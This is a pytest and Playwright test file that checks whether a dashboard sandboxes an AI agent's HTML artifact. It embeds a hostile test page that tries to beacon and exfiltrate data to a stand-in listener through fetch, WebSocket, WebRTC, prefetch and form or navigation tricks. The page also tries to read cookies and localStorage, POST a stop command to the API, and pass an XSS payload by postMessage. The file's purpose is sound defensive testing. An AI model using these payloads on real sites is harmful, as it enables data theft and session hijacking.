"""A page that an agent made, and that means harm, in the frame of the dashboard."""

import socket
import threading
from collections.abc import Iterator
from contextlib import closing
from functools import partial

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from recursor.domain.ids import new_id
from recursor.domain.project import Artifact
from recursor.runner.data_paths import store_directory
from recursor.storage.opening import open_store
from recursor.storage.tables import ARTIFACTS
from tests.processes import TIMEOUT, run_to_end, started_runner
from tests.storing import put_all


class Outside:
    """Somebody on the network who listens, by TCP and by UDP, and notes that anything came."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.tcp, self.udp = self._tcp.getsockname()[1], self._udp.getsockname()[1]
        self._threads = [threading.Thread(target=each) for each in (self._accept, self._receive)]
        for thread in self._threads:
            thread.start()

    def _accept(self) -> None:
        while True:
            connection, _ = self._tcp.accept()
            with connection:
                connection.settimeout(TIMEOUT)
                said = connection.recv(200)
            if said == b"end":
                return
            self.heard.append(f"TCP {said!r}")

    def _receive(self) -> None:
        while (said := self._udp.recv(200)) != b"end":
            self.heard.append(f"UDP {said!r}")

    def end(self) -> None:
        with socket.create_connection(("127.0.0.1", self.tcp)) as connection:
            connection.sendall(b"end")
        self._udp.sendto(b"end", self._udp.getsockname())
        for thread in self._threads:
            thread.join()
        self._tcp.close()
        self._udp.close()


# Each attempt tells what came of it; none may say "reached".
_ATTEMPTS = """
<!doctype html><meta charset=utf-8><title>hostile</title>
<link rel=preconnect href="http://OUTSIDE/"><link rel=dns-prefetch href="//secret.example">
<link rel=prefetch href="http://OUTSIDE/prefetch"><link rel=preload as=script href="http://OUTSIDE/preload">
<link rel=stylesheet href="http://OUTSIDE/style"><style>@import "http://OUTSIDE/import";
body { background: url(http://OUTSIDE/background) }
@font-face { font-family: x; src: url(http://OUTSIDE/font) }</style>
<script type=speculationrules>{"prefetch": [{"urls": ["http://OUTSIDE/speculation"]}]}</script>
<body style="font-family: x">text<img src="http://OUTSIDE/image"><video src="http://OUTSIDE/video"></video>
<iframe src="http://OUTSIDE/frame"></iframe><iframe src="/api/stacks"></iframe>
<iframe srcdoc="<script>CALL</script>"></iframe><object data="http://OUTSIDE/object"></object>
<div><template shadowrootmode=open><iframe srcdoc="<script>CALL</script>"></iframe></template></div>
<script>
const said = {};
const attempt = (name, work) => {
  said[name] = "waits";
  (async () => {
    try { said[name] = await work() ?? "reached"; } catch (error) { said[name] = "refused: " + error; }
  })();
};
const API = "BASE/api/stacks";
attempt("read the API", async () => (await fetch(API)).text());
attempt("write to the API", async () =>
  (await fetch(API + "/TEAM/stop", { method: "POST", mode: "no-cors" })).type);
attempt("ask the network", async () => (await fetch("http://OUTSIDE/fetch", { mode: "no-cors" })).type);
attempt("send a beacon", () => {
  navigator.sendBeacon("http://OUTSIDE/beacon", "x");
  return "refused, or heard outside";
});
attempt("open a socket", () => new Promise((resolve, reject) => {
  const one = new WebSocket("ws://OUTSIDE/socket");
  one.onopen = () => resolve("reached");
  one.onerror = () => reject("error");
}));
attempt("hear events", () => new Promise((resolve, reject) => {
  const one = new EventSource(API.replace("stacks", "events"));
  one.onopen = () => resolve("reached");
  one.onerror = () => reject("error");
}));
attempt("load a script", () => new Promise((resolve, reject) => {
  const one = document.createElement("script");
  one.src = "http://OUTSIDE/script";
  one.onload = () => resolve("reached");
  one.onerror = () => reject("error");
  document.head.append(one);
}));
attempt("start a worker", () => new Promise((resolve, reject) => {
  const one = new Worker(URL.createObjectURL(new Blob(["postMessage('reached')"])));
  one.onmessage = () => resolve("reached");
  one.onerror = () => reject("error");
}));
attempt("speak WebRTC", () => { CALL });
attempt("speak WebRTC from a frame", () => {
  const frame = document.createElement("iframe");
  frame.srcdoc = "<script>CALL<" + "/script>";
  const host = document.createElement("div");
  host.attachShadow({ mode: "closed" }).append(frame);
  document.body.append(host, frame.cloneNode());
  return "refused, or heard outside";
});
attempt("read the parent", () => parent.document.title);
attempt("lead the parent away", () => { top.location = "http://OUTSIDE/top"; });
attempt("read what the browser keeps", () => localStorage.getItem("recursor.visitor"));
attempt("keep something", () => { sessionStorage.setItem("x", "y"); });
attempt("read cookies", () => document.cookie);
attempt("keep a database", () => { indexedDB.open("x"); });
attempt("open a window", () => window.open("http://OUTSIDE/window") ? "reached" : "refused");
parent.postMessage({ type: "hello", html: "<img src=x onerror=alert(1)>" }, "*");
</script>
"""

_RTC = (
    "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] });"
    "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));"
)


# What takes the whole frame somewhere, each on a page of its own.
_DEPARTURES = {
    "elsewhere": "<script>location = 'http://OUTSIDE/away?secret'</script>",
    "to the API": "<script>location = 'BASE/api/stacks'</script>",
    "to the dashboard": "<script>location = 'BASE/'</script>",
    "by a form to the API": "<form id=f method=post action='BASE/api/stacks/TEAM/stop'></form>"
    "<script>f.submit()</script>",
    "by a form": "<form id=f action='http://OUTSIDE/form'><input name=q></form><script>f.submit()</script>",
    "by a link": "<a id=a href='http://OUTSIDE/link'>x</a><script>a.click()</script>",
    "to the top": "<a id=a target=_top href='http://OUTSIDE/top'>x</a><script>a.click()</script>",
    "to a window": "<a id=a target=_blank href='http://OUTSIDE/window'>x</a><script>a.click()</script>",
    "by a refresh": "<meta http-equiv=refresh content='0;url=http://OUTSIDE/refresh'>",
}


class Hostile:
    """A runner with a team whose artifacts mean harm, and who listens outside."""

    def __init__(self, team: str, url: str, outside: Outside) -> None:
        self.team, self.url, self.outside = team, url, outside
        self.said: list[str] = []

    def state(self) -> str:
        """What became of the team."""
        found = httpx.get(f"{self.url}/api/stacks/{self.team}").raise_for_status().json()
        return str(found["stack"]["state"])

    def show(self, page: Page, version: int) -> None:
        """Open a version in the dashboard, as an operator does."""
        page.on("crash", lambda: self.said.append("the page crashed"))
        page.on("pageerror", lambda error: self.said.append(str(error)))
        page.goto(f"{self.url}/teams/{self.team}/artifacts?version={version}")
        page.wait_for_function("() => window.did_handshake")
        page.evaluate("localStorage.setItem('recursor.visitor', 'Ada')")
        expect(page.locator("iframe.stage-frame")).to_be_visible()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    data = tmp_path_factory.mktemp("hostile") / "data"
    team = run_to_end("create", "hostile", "--idea", "harm", "--start", data=data).out.strip()
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    outside = Outside()
    try:
        pages = [_ATTEMPTS.replace("CALL", _RTC), *_DEPARTURES.values()]
        with closing(open_store(store_directory(data))) as store:
            for number, template in enumerate(pages, 1):
                content = template
                for name, value in (
                    ("OUTSIDE", f"127.0.0.1:{outside.tcp}"),
                    ("UDP", str(outside.udp)),
                    ("BASE", f"http://127.0.0.1:{port}"),
                    ("TEAM", team),
                ):
                    content = content.replace(name, value)
                put_all(store, partial(ARTIFACTS.add, record=_artifact(team, number, content)))
        with started_runner("--port", str(port), data=data) as runner:
            yield Hostile(team, runner.url, outside)
    finally:
        outside.end()


def _artifact(team: str, number: int, content: str) -> Artifact:
    return Artifact(
        id=new_id(), stack_id=team, number=number, content=content, author="builder", created_at=1.7e9
    )


def test_it_reaches_neither_the_api_nor_the_network_nor_the_dashboard(
    hostile: Hostile, context: BrowserContext
) -> None:
    page = context.new_page()
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(f"{request.method} {request.url}"))
    hostile.show(page, 1)

    handle = page.locator("iframe.stage-frame").element_handle()
    frame = handle.content_frame()
    assert frame is not None
    # Some refusals come without an event: what would be sent has been by then.
    said = frame.evaluate("new Promise((done) => setTimeout(() => done(said), 2000))")

    assert hostile.outside.heard == []
    assert {name for name, what in said.items() if what == "reached"} == set()
    assert said["speak WebRTC"].startswith("refused: ReferenceError")
    assert [each for each in asked if "OUTSIDE" in each or "/stop" in each or "/api/events" in each] == []
    assert len(context.pages) == 1
    assert page.url.startswith(f"{hostile.url}/teams/{hostile.team}/artifacts")
    assert page.evaluate("localStorage.getItem('recursor.visitor')") == "Ada"
    expect(page.get_by_role("heading", name="hostile")).to_be_visible()
    assert hostile.state() == "running"
    assert hostile.said == []


@pytest.mark.parametrize(
    "way",
    [
        pytest.param(way, marks=[] if way in ("elsewhere", "by a form to the API") else pytest.mark.slow)
        for way in _DEPARTURES
    ],
)
def test_its_frame_goes_nowhere(hostile: Hostile, context: BrowserContext, way: str) -> None:
    page = context.new_page()
    answers: dict[str, int] = {}
    page.on("response", lambda answer: answers.update({answer.url: answer.status}))

    hostile.show(page, 2 + list(_DEPARTURES).index(way))
    # What does not come about cannot be waited for.
    page.wait_for_timeout(1000)

    # Some versions of Chromium connect before they ask whether the frame may go there; nothing is sent.
    assert [said for said in hostile.outside.heard if said != "TCP b''"] == []
    ours = (f"{hostile.url}/", f"{hostile.url}/api/stacks")
    assert [url for url in ours if answers.get(url, 403) != 403] == []
    assert page.url.startswith(f"{hostile.url}/teams/")
    assert len(context.pages) == 1
    assert hostile.state() == "running"
